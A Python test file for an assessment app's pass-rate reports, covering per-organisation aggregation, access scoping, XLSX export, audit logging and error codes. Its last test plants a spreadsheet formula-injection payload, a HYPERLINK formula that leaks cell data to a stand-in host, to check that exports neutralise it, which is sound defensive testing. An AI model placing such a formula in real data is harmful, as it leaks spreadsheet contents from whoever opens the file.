"""Pass rates per organisation: scoped to the viewer's subtree, drill-down, export."""

from __future__ import annotations

import io

from openpyxl import load_workbook

from dangke.models import AuditEntry
from tests import factories
from tests.assessment.conftest import call, right_answer


def _sit(client, exam, bank, right: int):
    attempt = call(client, "POST", f"quizzes/{exam.pk}/attempts").json()
    for question in list(bank.values())[:right]:
        call(client, "PUT", f"attempts/{attempt['id']}/answers/{question.pk}",
             right_answer(question))  # fmt: skip
    return call(client, "POST", f"attempts/{attempt['id']}/submit").json()


def test_pass_rates_per_child_organisation(
    member, other_member, exam, bank, client_for, tree, editor
):
    factories.member(organisation=tree["branch1"], username="idle")
    first = client_for(member.user)
    _sit(first, exam, bank, right=1)  # 25: failed
    _sit(first, exam, bank, right=4)  # 100: passed on the second attempt
    _sit(client_for(other_member.user), exam, bank, right=2)  # 50: failed
    url = f"reports/pass-rates?organisation=D&quiz={exam.pk}"
    body = call(client_for(editor), "GET", url).json()
    total = body["total"]
    assert (total["members"], total["participants"], total["passed"]) == (3, 2, 1)
    assert total["pass_rate"] == 50.0
    assert total["average_score"] == 75.0  # best scores: 100 and 50
    by_code = {row["code"]: row for row in body["children"]}
    assert by_code["S1"]["pass_rate"] == 100.0 and by_code["S1"]["members"] == 2
    assert by_code["S2"]["pass_rate"] == 0.0


def test_scoping_and_export(member, exam, bank, client_for, tree):
    _sit(client_for(member.user), exam, bank, right=4)
    secretary = factories.org_admin(organisation=tree["sub1"], username="secretary")
    client = client_for(secretary)
    refused = call(client, "GET", f"reports/pass-rates?organisation=D&quiz={exam.pk}")
    assert refused.status_code == 403
    xlsx = call(client, "GET",
                f"reports/pass-rates?organisation=S1&quiz={exam.pk}&format=xlsx")  # fmt: skip
    assert xlsx.status_code == 200
    rows = list(
        load_workbook(io.BytesIO(xlsx.content)).active.iter_rows(values_only=True)
    )
    assert rows[1][:3] == ("组织代码", "组织名称", "党员人数")
    assert rows[2][0] == "S1"
    audited = AuditEntry.objects.get()
    assert (audited.actor, audited.subject) == (secretary, "assessment.pass_rates")
    assert audited.scope["organisation"] == "S1" and audited.row_count == 2
    bad = call(
        client, "GET", f"reports/pass-rates?organisation=S1&quiz={exam.pk}&format=pdf"
    )
    assert bad.status_code == 400 and bad.json()["code"] == "invalid_format"
    unknown = call(
        client, "GET", f"reports/pass-rates?organisation=NOPE&quiz={exam.pk}"
    )
    assert unknown.status_code == 404


def test_members_without_admin_rows_see_no_reports(member, exam, client_for):
    response = call(client_for(member.user), "GET",
                    f"reports/pass-rates?organisation=D&quiz={exam.pk}")  # fmt: skip
    assert response.status_code == 403


def test_report_exports_neutralise_organisation_names(exam, client_for, tree, editor):
    from tests.helpers import assert_neutralised, export_cells

    hostile = '=HYPERLINK("http://example.invalid/?leak="&A1,"点我")'
    tree["sub1"].name = hostile
    tree["sub1"].save()
    client = client_for(editor)
    for fmt in ("csv", "xlsx"):
        answer = call(client, "GET",
                      f"reports/pass-rates?organisation=D&quiz={exam.pk}&format={fmt}")  # fmt: skip
        assert answer.status_code == 200, answer.content
        assert_neutralised(export_cells(answer, fmt), hostile)
